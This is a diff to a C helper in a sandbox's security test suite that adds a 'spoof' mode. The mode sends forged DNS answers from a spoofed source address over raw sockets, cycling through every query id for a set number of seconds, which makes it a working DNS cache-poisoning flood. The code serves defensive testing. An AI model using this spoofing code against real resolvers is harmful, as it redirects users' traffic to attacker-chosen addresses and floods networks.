@@ -4,6 +4,7 @@
  * reach a DNS server other than sbx's resolver (tests/security/test_dns_attack.sh).
  *
  *   dnsatk FORM ADDR PORT NAME
+ *   dnsatk spoof ADDR PORT NAME SRC SPORT ANSWER SECS
  *
  * FORM:
  *   udp        sendto(ADDR) on a socket of ADDR's family ("::ffff:a.b.c.d" and
@@ -19,6 +20,9 @@
  *   udplite-to an IPPROTO_UDPLITE socket: sendto(ADDR)
  *   raw        a SOCK_RAW IPPROTO_UDP socket: the UDP header written by hand,
  *              answers read from the same raw socket
+ *
+ * spoof sends forged answers "NAME A ANSWER" from SRC:SPORT to ADDR:PORT, one
+ * for every query id, again and again for SECS seconds (IP_HDRINCL).
  *
  * Prints one line: "ok RCODE FIRST-A" (FIRST-A "-" when none), "timeout" when
  * nothing came back within 2 s, or the errno name of the call that failed.
@@ -36,6 +40,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
+#include <time.h>
 #include <unistd.h>
 
 #ifndef IPPROTO_UDPLITE
@@ -192,6 +197,59 @@ static int raw_query(const struct sockaddr_storage *ss, socklen_t sl, int port, 
 	return 3;
 }
 
+/* spoof: forged answers "NAME A ANSWER" from SRC:SPORT to ADDR:PORT (IPv4),
+ * one for every query id, for SECS seconds (IP_HDRINCL: needs CAP_NET_RAW) */
+static int spoof(char **argv)
+{
+	struct sockaddr_in dst = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3])) };
+	struct in_addr src, ans;
+	uint8_t pkt[600];
+	struct iphdr *ip = (struct iphdr *)pkt;
+	struct udphdr *u = (struct udphdr *)(pkt + 20);
+	uint8_t *d = pkt + 28;
+	size_t qlen = build(argv[4], d), o = qlen, total;
+	time_t end = time(NULL) + atoi(argv[8]);
+	unsigned long sent = 0;
+	int fd;
+
+	if (inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1 || inet_pton(AF_INET, argv[5], &src) != 1 ||
+	    inet_pton(AF_INET, argv[7], &ans) != 1)
+		return 2;
+	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
+	if (fd < 0)
+		return fail("socket");
+	d[2] = 0x81;
+	d[3] = 0x80;
+	d[7] = 1;	/* ANCOUNT */
+	memcpy(d + o, "\300\14\0\1\0\1\0\0\1\54\0\4", 12);
+	o += 12;
+	memcpy(d + o, &ans, 4);
+	o += 4;
+	total = 28 + o;
+	memset(pkt, 0, 28);
+	ip->version = 4;
+	ip->ihl = 5;
+	ip->ttl = 64;
+	ip->protocol = IPPROTO_UDP;
+	ip->tot_len = htons((uint16_t)total);
+	ip->saddr = src.s_addr;
+	ip->daddr = dst.sin_addr.s_addr;
+	u->source = htons((uint16_t)atoi(argv[6]));
+	u->dest = dst.sin_port;
+	u->len = htons((uint16_t)(8 + o));
+	while (time(NULL) < end) {
+		for (unsigned id = 0; id < 65536; id++) {
+			d[0] = (uint8_t)(id >> 8);
+			d[1] = (uint8_t)id;
+			if (sendto(fd, pkt, total, 0, (struct sockaddr *)&dst, sizeof(dst)) < 0)
+				return fail("sendto");
+			sent++;
+		}
+	}
+	printf("ok sent=%lu\n", sent);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	struct sockaddr_storage ss, via;
@@ -201,6 +259,8 @@ int main(int argc, char **argv)
 	int fam, fd, port, one = 1, zero = 0;
 	const char *form;
 
+	if (argc == 9 && !strcmp(argv[1], "spoof"))
+		return spoof(argv);
 	if (argc != 5) {
 		fprintf(stderr, "usage: dnsatk FORM ADDR PORT NAME\n");
 		return 2;
